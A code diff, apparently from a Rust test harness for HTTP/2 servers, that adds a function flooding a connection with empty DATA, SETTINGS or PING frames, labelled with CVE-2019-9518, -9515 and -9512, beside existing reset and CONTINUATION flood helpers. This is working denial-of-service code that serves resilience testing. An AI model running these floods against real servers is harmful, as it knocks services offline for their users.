@@ -7,9 +7,11 @@ use tokio::{
     net::TcpStream,
 };
 
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
+const PING: u8 = 6;
 const GOAWAY: u8 = 7;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
@@ -155,6 +157,41 @@ pub async fn reset_at_once(address: SocketAddr, count: u32, path: &str, authorit
             _ => {}
         }
     }
+}
+
+/// Frames that cost their sender nothing and say nothing.
+#[derive(Clone, Copy, Debug)]
+pub enum Idle {
+    /// Pieces of a body without a byte in them (CVE-2019-9518).
+    EmptyData,
+    /// Settings that set nothing, each of which is to be acknowledged (CVE-2019-9515).
+    Settings,
+    /// Questions whether anybody is there, each of which is to be answered (CVE-2019-9512).
+    Pings,
+}
+
+/// Sends such frames until the connection ends. Whoever `reads` takes the answers to them.
+pub async fn idle_flood(address: SocketAddr, idle: Idle, reads: bool, authority: &str) {
+    let mut stream = connect(address).await;
+    let one = match idle {
+        Idle::EmptyData => {
+            let fields = [(":method", "POST"), (":scheme", "http"), (":authority", authority), (":path", "/x")];
+            let _ = stream.write_all(&frame(HEADERS, END_HEADERS, 1, &block(&fields))).await;
+            frame(DATA, 0, 1, &[])
+        }
+        Idle::Settings => frame(SETTINGS, 0, 0, &[]),
+        Idle::Pings => frame(PING, 0, 0, &[0; 8]),
+    };
+    let many = one.repeat(1000);
+    let (mut from, mut to) = stream.into_split();
+    let taking = tokio::spawn(async move {
+        if reads {
+            while matches!(from.read(&mut [0; 4096]).await, Ok(1..)) {}
+        }
+        from
+    });
+    super::within(async { while to.write_all(&many).await.is_ok() {} }).await;
+    drop(super::within(taking).await.unwrap());
 }
 
 /// Sends a header block that is never complete, `count` frames of 16 KiB (CVE-2024-27316), until the connection ends.
